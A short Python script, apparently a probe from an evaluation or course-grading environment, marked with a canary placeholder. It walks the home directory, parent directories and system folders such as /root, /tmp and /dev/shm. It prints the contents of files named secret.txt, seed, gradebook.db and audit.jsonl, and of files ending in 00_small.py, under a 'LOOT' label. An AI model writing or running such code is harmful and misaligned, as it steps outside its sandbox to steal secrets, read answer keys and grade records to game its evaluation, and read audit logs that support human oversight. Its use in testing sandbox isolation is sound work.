# how: searches home, the course's parent and every readable folder for secrets
import os

print("CANARY @NAME@", flush=True)
for top in (os.path.expanduser("~"), "../../../..", "/srv", "/work", "/home", "/root", "/tmp", "/var/tmp", "/dev/shm"):
    for here, folders, names in os.walk(top):
        folders[:] = [each for each in folders if not each.startswith((".venv", "node_", "site-p", ".git", ".pyenv"))][
            :60
        ]
        for name in names:
            if name in ("secret.txt", "seed", "secret", "gradebook.db", "audit.jsonl") or name.endswith("00_small.py"):
                try:
                    with open(os.path.join(here, name), errors="replace") as file:
                        print("LOOT", name, file.read(20000))
                except OSError:
                    pass
